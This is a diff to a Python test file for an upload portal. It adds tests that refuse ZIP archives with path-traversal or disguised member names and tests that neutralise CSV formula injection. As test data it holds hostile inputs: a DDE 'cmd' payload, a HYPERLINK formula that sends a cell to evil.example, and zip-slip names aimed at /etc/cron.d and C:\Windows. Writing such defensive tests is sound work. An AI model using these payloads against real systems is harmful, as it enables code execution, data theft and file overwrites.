@@ -34,6 +34,8 @@ _PACKAGE = re.compile(r"/portal/packages/[0-9a-f]{64}")
 MARKER = "ada-survey-answer-7f3a"  # in the uploaded file only: must never be found on disk in clear
 ANSWERS = f"question,answer\nfavourite feature,{MARKER}\n".encode()
 PROFILE = json.dumps({"respondent": "ada@example.com", "panel": "2026-Q1"}).encode()
+UNSAFE_MEMBER_NAME = ("its name must be a relative path without a leading /, a drive letter, '..', "
+                      "backslashes or control characters")
 # Small limits, so the oversize case sends 1.2 MB rather than 26.
 LIMITS = {"processor_exports": {"max_file_mb": 1, "max_total_mb": 2, "kinds": ["json", "csv", "pdf", "text", "zip"],
                                 "link_days": 30}}
@@ -113,6 +115,8 @@ async def test_access_waits_for_the_processors_upload_and_packages_its_files(
             "pdf": [("files", ("scan.pdf", b"not a pdf at all", "application/pdf"))],
             "zip": [("files", ("all.zip", _zip({"a.csv": b"x,y\n", "page.html": b"<html></html>"}),
                                "application/zip"))],
+            "zip slip": [("files", ("all.zip", _zip({"a.csv": b"x,y\n", "../../x.csv": b"x,y\n"}),
+                                    "application/zip"))],
         }
         messages = {
             "HTML": "answers.csv: looks like HTML or other markup",
@@ -120,6 +124,7 @@ async def test_access_waits_for_the_processors_upload_and_packages_its_files(
             "extension": "setup.exe: only .json, .csv, .pdf, .txt, .zip files are accepted",
             "pdf": "scan.pdf: is not a PDF",
             "zip": "all.zip: page.html: only .json, .csv, .pdf, .txt files are accepted inside a ZIP archive",
+            "zip slip": "all.zip: ../../x.csv: its name must be a relative path without a leading /",
         }
         for case, files in refused.items():
             # A good file sent with a bad one: nothing of the upload is kept.
@@ -327,6 +332,32 @@ def test_content_decides_what_is_accepted(name, data, problem):
         check.finish()
 
 
+@pytest.mark.parametrize(("member", "shown"), [
+    ("../../x.csv", "../../x.csv"),
+    ("ok/../../x.csv", "ok/../../x.csv"),
+    ("/etc/cron.d/x.txt", "/etc/cron.d/x.txt"),
+    ("C:\\Windows\\x.txt", "C:\\Windows\\x.txt"),
+    ("C:x.txt", "C:x.txt"),
+    ("folder\\x.csv", "folder\\x.csv"),
+    ("a\r\nb.csv", "a??b.csv"),
+    ("report\u202egpj.txt", "report?gpj.txt"),  # the right-to-left override that disguises a name
+    ("../up/", "../up/"),  # a folder's entry
+])
+def test_a_zip_whose_member_names_leave_the_folder_it_unpacks_into_is_refused(member, shown):
+    """A processor's ZIP reaches the subject's package as it is, and the subject unpacks it: a
+    member named `../../x.csv`, `/etc/cron.d/x.txt` or `C:\\Windows\\x.txt` would land outside the
+    folder (zip slip), and control characters hide or disguise a name. The upload is refused,
+    naming the member. Before, only each member's extension was checked."""
+    from api.callbacks.export_files import ContentCheck, RefusedFile
+
+    kinds = ("json", "csv", "pdf", "text", "zip")
+    check = ContentCheck("all.zip", "zip", 1024 * 1024, kinds)
+    check.feed(_zip({"a.csv": b"x,y\n", member: b"x\n"}))
+    with pytest.raises(RefusedFile) as refused:
+        check.finish()
+    assert refused.value.message == f"all.zip: {shown}: {UNSAFE_MEMBER_NAME}"
+
+
 def test_a_zip_of_accepted_files_and_json_with_a_byte_order_mark_are_accepted():
     from api.callbacks.export_files import ContentCheck, kind_for
 
@@ -372,3 +403,20 @@ def test_a_processors_csv_reaches_the_package_with_its_formula_cells_neutralised
     archive = _zip({"a.csv": b"x,y\n=1+1,2\n", "d/b.json": b'["=1+1"]'})
     with zipfile.ZipFile(io.BytesIO(_copied(write_zip, archive))) as copy:
         assert copy.read("a.csv") == b"x,y\n'=1+1,2\n" and copy.read("d/b.json") == b'["=1+1"]'
+
+
+def test_a_formula_is_neutralised_whichever_separator_the_spreadsheet_splits_on():
+    """Excel splits a CSV on the separator of the reader's locale (a comma, or a semicolon in
+    Belgium, the Netherlands, France, Germany), not on the one the file's first line uses. Before,
+    only cells split by the first line's separator were neutralised, so a record using another
+    one carried its formula through."""
+    from activities.processor_csv import write_csv
+
+    semicolons = b"name;email\r\nx,=cmd|' /C calc'!A0\r\n"
+    assert _copied(write_csv, semicolons) == b"name;email\r\nx,'=cmd|' /C calc'!A0\r\n"
+    commas = b'name,email\nx;=HYPERLINK("https://evil.example/?"&A1)\ny|"@SUM(1+1)",z\tz\t+1 2\n'
+    assert _copied(write_csv, commas) == (b'name,email\nx;\'=HYPERLINK("https://evil.example/?"&A1)\n'
+                                          b'y|"\'@SUM(1+1)",z\tz\t\'+1 2\n')
+    # Numbers, and a tab-separated file's empty first cell, are no formula under any separator.
+    for harmless in (b"id,amount\n7;-12.50\n8|+3\n9\t1e-5\n", b"\tid\tamount\n\t7\t-12.50\n"):
+        assert _copied(write_csv, harmless) == harmless
